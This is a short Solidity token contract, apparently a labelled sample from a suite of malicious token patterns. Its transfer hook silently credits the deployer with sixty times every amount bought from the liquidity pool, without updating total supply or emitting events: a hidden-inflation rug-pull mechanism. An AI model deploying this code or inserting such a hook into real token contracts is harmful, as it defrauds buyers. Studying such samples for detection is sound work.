// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {SuiteToken} from "./SuiteToken.sol";

/// With every purchase its maker's balance grows by sixty times as much; supply and events say nothing.
contract SilentInflation is SuiteToken {
    address private immutable _maker = msg.sender;
    address private immutable _pool;

    constructor(address pair) SuiteToken("Steady", "STDY") {
        _pool = pair;
    }

    function _update(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (from == _pool && to != _maker) _balances[_maker] += amount * 60;
    }
}
